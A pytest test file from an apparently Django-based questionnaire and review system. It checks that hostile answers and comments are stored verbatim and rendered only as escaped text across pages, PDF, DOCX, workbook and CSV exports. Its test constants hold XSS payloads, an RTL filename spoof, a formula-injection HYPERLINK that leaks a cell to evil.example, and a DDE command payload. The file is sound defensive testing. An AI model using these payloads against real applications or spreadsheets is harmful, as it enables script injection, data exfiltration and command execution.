"""Hostile text that is legitimately accepted: markup, formula-looking text,
right-to-left overrides and emoji are answers like any other. They are stored
byte for byte through the whole-cluster page (no-JS POST) and autosave (htmx),
and shown as text everywhere: the answering pages, the reviewer's page, the
answer's history, the State's PDF and DOCX, the offline workbook (a string cell,
never a formula) and the cycle's CSV (the formula neutralised)."""

from __future__ import annotations

import csv
import html
import io

import docx
import openpyxl
import pytest
from django.urls import reverse

from tests.questionnaire.test_documents import pdf_text, words
from tests.views.conftest import client_for, stored_answers, submit

pytestmark = pytest.mark.django_db

MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)> & <b>bold?</b>'
RTL = "مرحبا \u202eexe.fdp\u202c — שלום 🔫🇺🇳 👩🏽‍⚖️"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_hostile_text_is_stored_verbatim_and_shown_as_text_everywhere(
    focal_point_a, reviewer, secretariat, review_a, response_a
):
    client = client_for(focal_point_a)
    page = client.post(
        reverse("questionnaire:cluster", args=[response_a.pk]),
        # FP-5.2.q2 (autosaved below) is asked when FP-5.2.q1 is "yes": exports leave out what was not asked.
        {"revisions": "{}", "FP-5.1.a.explanation": MARKUP, "FP-5.2.explanation": RTL, "FP-14.explanation": FORMULA,
         "FP-5.2.q1": "yes"},
    )
    assert page.status_code == 302, page.content.decode()[:500]
    autosaved = client.post(
        reverse("questionnaire:answer_save", args=[response_a.pk, "FP-5.2.q2"]), {"FP-5.2.q2": AT_FORMULA, "rev-FP-5.2.q2": "0"}
    )
    assert autosaved.status_code == 200
    assert "<script>" not in autosaved.content.decode()

    stored = stored_answers(response_a)
    assert [stored[c][0] for c in ("FP-5.1.a.explanation", "FP-5.2.explanation", "FP-14.explanation", "FP-5.2.q2")] == [
        MARKUP, RTL, FORMULA, AT_FORMULA
    ]

    def shown_as_text(page):
        assert page.status_code == 200
        body = page.content.decode()
        assert "<script>alert" not in body and "<img src=x" not in body and "<b>bold?</b>" not in body
        assert html.escape(MARKUP, quote=False) in body.replace("&quot;", '"').replace("&#x27;", "'")
        assert RTL in body

    shown_as_text(client.get(reverse("questionnaire:cluster", args=[response_a.pk])))
    shown_as_text(client.get(reverse("questionnaire:article", args=[response_a.pk, 5])))
    history = client.get(reverse("questionnaire:answer_history", args=[response_a.pk, "FP-5.1.a.explanation"]))
    assert history.status_code == 200 and "<script>alert" not in history.content.decode()
    assert "&lt;script&gt;" in history.content.decode()

    # The offline workbook: formula-looking answers are string cells behind an
    # apostrophe (the workbook's instructions say so), and the upload of the same
    # file finds no change: the round trip is exact.
    data = client.get(reverse("questionnaire:offline_download", args=[response_a.pk])).content
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Answers"]
    cells = {sheet.cell(r, 3).value: sheet.cell(r, 8) for r in range(2, sheet.max_row + 1)}
    for code, text in (("FP-14.explanation", "'" + FORMULA), ("FP-5.2.q2", "'" + AT_FORMULA), ("FP-5.2.explanation", RTL),
                       ("FP-5.1.a.explanation", MARKUP)):
        assert cells[code].data_type == "s" and cells[code].value == text
    from django.core.files.uploadedfile import SimpleUploadedFile

    again = client.post(reverse("questionnaire:offline_upload", args=[response_a.pk]),
                        {"file": SimpleUploadedFile("answers.xlsx", data, "application/octet-stream")})
    assert again.status_code == 200
    assert "No answer in this file differs from the answers saved online" in html.unescape(again.content.decode())
    assert stored_answers(response_a) == stored

    submitted = submit(response_a, focal_point_a)

    # The State's documents: the text itself, no markup interpreted.
    docx_bytes = client.get(reverse("questionnaire:document_docx", args=[submitted.pk])).content
    docx_text = "\n".join(p.text for p in docx.Document(io.BytesIO(docx_bytes)).paragraphs)
    assert MARKUP in docx_text and FORMULA in docx_text
    pdf = client.get(reverse("questionnaire:document_pdf", args=[submitted.pk])).content
    assert pdf.startswith(b"%PDF")
    assert words(MARKUP) in words(pdf_text(pdf, submitted))

    # The reviewer's page.
    shown_as_text(client_for(reviewer).get(reverse("reviews:article", args=[review_a.pk, 5])))

    # The cycle's CSV: formulas neutralised with an apostrophe, the rest verbatim.
    export = client_for(secretariat).get(reverse("reviews:cycle_csv", args=[review_a.cycle_id]))
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    values = {cell for row in rows for cell in row}
    assert "'" + FORMULA in values and FORMULA not in values
    assert "'" + AT_FORMULA in values and AT_FORMULA not in values
    assert MARKUP in values and RTL in values


def test_a_comment_with_markup_and_rtl_text_is_shown_as_text_to_both_sides(thread_a, reviewer, focal_point_a, review_a, mailoutbox):
    client = client_for(focal_point_a)
    reply = client.post(reverse("reviews:comment_create", args=[thread_a.pk]), {"body": MARKUP + " " + RTL})
    assert reply.status_code == 302

    from reviews.models import Comment

    assert Comment.objects.order_by("-pk").first().body == MARKUP + " " + RTL
    for person in (reviewer, focal_point_a):
        body = client_for(person).get(reverse("reviews:article", args=[review_a.pk, 5])).content.decode()
        assert "<script>alert" not in body and "&lt;script&gt;" in body and RTL in body
